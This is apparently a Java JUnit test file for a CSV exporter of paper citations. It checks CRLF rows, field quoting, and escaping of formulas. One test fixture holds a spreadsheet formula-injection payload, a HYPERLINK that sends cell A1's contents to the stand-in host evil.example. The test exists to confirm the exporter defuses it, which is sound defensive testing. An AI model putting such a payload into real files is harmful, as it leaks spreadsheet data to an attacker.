package org.livesurvey.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;

import org.junit.jupiter.api.Test;

class CsvWriterTest {

    private static final String HEADER = "id,title,authors,published,venue,arxiv,doi,url,categories,code\r\n";

    private final CitationExporter exporter = new CitationExporter();

    @Test
    void writesAHeaderAndOneCrLfRowPerPaperQuotingWhereNeeded() {
        String exported = exporter.export(List.of(ExportTestPapers.dymu(), ExportTestPapers.specials(),
                ExportTestPapers.mathInTitle(), ExportTestPapers.bare()), ExportFormat.CSV);

        assertThat(exported).isEqualTo(HEADER
                + "2504.17040,DyMU: Dynamic Merging and Virtual Unmerging for Efficient VLMs,"
                + "Zhenhailong Wang; Senthil Purushwalkam,2025-04-23,NeurIPS 2025,2504.17040,"
                + "10.48550/arXiv.2504.17040,https://arxiv.org/abs/2504.17040,efficiency/token-compression,"
                + "https://github.com/MikeWangWZHL/dymu\r\n"
                + "specials-in-titles,R&D costs 100% $5 #1 a_b {set} ~ ^ \\ in LLaMA,"
                + "Dilek Hakkani-Tür; José van der Berg; Martin Luther King Jr.,2024-02,Trans. Mach. Learn. Res. 2025,,"
                + "10.1000/tmlr_{42},https://example.org/a_b%20c#x,alignment/preference-optimization,\r\n"
                + "2404.12358,From $r$ to $Q^*$: Your Language Model is Secretly a Q-Function,Rafailov; Joey Hejna,"
                + "2024-04-18,arXiv,2404.12358,,https://arxiv.org/abs/2404.12358,alignment,\r\n"
                + "synthetic-data-generation,Synthetic Data Generation & Multi-Step RL for Tool Use,,,,,,"
                + "https://github.com/example/synthetic,agents,\r\n");
    }

    @Test
    void fieldsWithCommasQuotesOrLineBreaksAreQuotedWithQuotesDoubled() {
        String exported = exporter.export(List.of(ExportTestPapers.paper("quoting", "Say \"hi\", then\nleave",
                List.of("Ada Lovelace", "Charles Babbage"), "1843", "Notes, Vol. 1", null, null, null, null, null,
                "agents")), ExportFormat.CSV);

        assertThat(exported).isEqualTo(HEADER
                + "quoting,\"Say \"\"hi\"\", then\nleave\",Ada Lovelace; Charles Babbage,1843,\"Notes, Vol. 1\","
                + ",,,agents,\r\n");
    }

    @Test
    void valuesThatASpreadsheetWouldRunAsFormulasStayText() {
        String exported = exporter.export(List.of(ExportTestPapers.formulas()), ExportFormat.CSV);

        assertThat(exported).isEqualTo(HEADER
                + "formula-injection,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\","
                + "'@Mallory Mallet; Eve +Eavesdrop,2023-01-05,'-1 Workshop,,,,agents,\r\n");
    }

    @Test
    void noPapersGiveTheHeaderAlone() {
        assertThat(exporter.export(List.of(), ExportFormat.CSV)).isEqualTo(HEADER);
    }
}
